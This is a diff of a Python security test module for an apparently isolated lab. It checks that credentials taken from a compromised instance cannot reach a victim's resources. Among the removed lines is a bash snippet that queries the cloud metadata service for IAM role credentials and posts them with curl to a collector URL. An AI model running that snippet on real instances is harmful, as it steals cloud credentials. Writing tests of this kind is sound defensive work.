@@ -7,98 +7,34 @@ calls are made there, after the instance has been proven and while its job runs.
 
 from __future__ import annotations
 
-import json
 from collections.abc import Iterator
-from dataclasses import dataclass, replace
-from datetime import UTC, datetime, timedelta
+from dataclasses import replace
 
 import pytest
 
-from attacks import hosts
-from attacks.calls import DENIED, MAILBOX, Target, calls_of, client, code_of, codes, write
+from attacks.calls import DENIED, MAILBOX, calls_of, client, code_of, codes, write
 from attacks.collector import Collector
 from attacks.conftest import Seen
+from attacks.held import ROLES, SCRIPT, TAKEN, VICTIM, Held, holding, read_keys
 from attacks.rows import attack
 from mayfly.records.states import InstanceState
-from mayfly_lab.contracts import Keys
 from stories.stage import QUICK, Stage
-from whole.steps import HOLD
 
-TAKEN, VICTIM = "taken", "victim"
-_TAKE = """
-imds=http://169.254.169.254/latest
-token=$(curl -fsS -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' $imds/api/token)
-ask() { curl -fsS -H "X-aws-ec2-metadata-token: $token" $imds/meta-data/iam/$1; }
-ask security-credentials/$(ask security-credentials/) | curl -fsS -d @- COLLECTOR/ROLE
-"""
 PARAMETERS = {TAKEN: {"imds": "job"}, VICTIM: {"pool/hot": "1", "imds": "job"}}
-SCRIPTS = {
-    TAKEN: "#!/bin/bash\nset -eu" + _TAKE.replace("COLLECTOR", "$COLLECTOR").replace("ROLE", "boot")
-}
+SCRIPTS = {TAKEN: SCRIPT}
 DELAYS = replace(QUICK, minute=10.0)
-ROLES = ("bootstrap", "sandbox")
-
-
-@dataclass(frozen=True, slots=True)
-class Held:
-    """What the attacker holds."""
-
-    stage: Stage
-    job: str
-    instance: str
-    bootstrap: Keys
-    sandbox: Keys
-    victim: Target
-
-    def keys(self, role: str) -> Keys:
-        return self.bootstrap if role == "bootstrap" else self.sandbox
-
-    def row(self, role: str) -> str:
-        record = self.stage.instance(self.instance)
-        return (record.bootstrap_row if role == "bootstrap" else record.sandbox_row) or ""
-
-
-def _keys(body: str) -> Keys:
-    sent = json.loads(body)
-    return Keys(
-        sent["AccessKeyId"],
-        sent["SecretAccessKey"],
-        sent["Token"],
-        datetime.now(UTC) + timedelta(hours=6),
-    )
 
 
 @pytest.fixture(scope="module")
 def held(stage: Stage, collector: Collector) -> Iterator[Held]:
-    take = _TAKE.replace("COLLECTOR", collector.url).replace("ROLE", "sandbox")
-    job = stage.push(TAKEN, f"{take}\n{HOLD}")
-    instance = stage.running(job)
-    stage.until("the sandbox credentials are out", lambda: collector.sent("/sandbox"))
-    (ready,) = stage.ready(VICTIM)
-    victim = stage.instance(ready)
-    iam = stage.lab.aws.client("iam")
-    names = [role["RoleName"] for role in iam.list_roles()["Roles"]]
-    target = Target(
-        instance=ready,
-        bootstrap_row=victim.bootstrap_row or "",
-        sandbox_row=victim.sandbox_row or "",
-        queue=VICTIM,
-        function_role=next(name for name in names if "ispatch" in name),
-        host_role=stage.published(VICTIM)["bootstrap_role"].rpartition("/")[2],
-    )
-    (boot,), (sandbox,) = collector.sent("/boot"), collector.sent("/sandbox")
-    yield Held(stage, job, instance, _keys(boot.body), _keys(sandbox.body), target)
-    hosts.run(stage, instance, "touch /tmp/go")
+    with holding(stage, collector) as found:
+        yield found
 
 
 def assert_denied(held: Held, service: str, seen: Seen) -> None:
     """Assert that every call of the service is denied to both roles, whose keys are alive."""
     for role in ROLES:
-        keys, stage = held.keys(role), held.stage
-        caller = client(stage, "sts", keys).get_caller_identity()["Arn"]
-        published = stage.published(TAKEN)[f"{role}_role"].rpartition("/")[2]
-        assert caller.endswith(f"assumed-role/{published}/{held.instance}")
-        found = codes(stage, keys, service, calls_of(service, held.victim))
+        found = codes(held.stage, held.keys(role), service, calls_of(service, held.victim))
         allowed = {call: code for call, code in found.items() if code not in DENIED}
         assert allowed == {}, role
         told = ", ".join(sorted(set(found.values())))
@@ -233,7 +169,7 @@ def test_an_early_proof_does_not_count(held: Held, collector: Collector, seen: S
     stage.until(
         "the profile is replaced", lambda: stage.instance(early).state is InstanceState.SWAPPING
     )
-    keys = _keys(collector.sent("/boot")[known].body)
+    keys = read_keys(collector.sent("/boot")[known].body)
     record = stage.instance(early)
     boot = record.boot or "forged"
     own, other = (
@@ -303,7 +239,6 @@ def test_the_own_row_takes_reports_only(held: Held, seen: Seen) -> None:
         ("update_item", write(row, "notice")),
         ("update_item", write(row, "expires")),
         ("update_item", {**write(row), "ReturnValues": "ALL_OLD"}),
-        ("update_item", {"TableName": MAILBOX, "Key": {"key": {"S": row}}}),
         ("delete_item", {"TableName": MAILBOX, "Key": {"key": {"S": row}}}),
     ]
     found = codes(held.stage, held.sandbox, "dynamodb", calls)
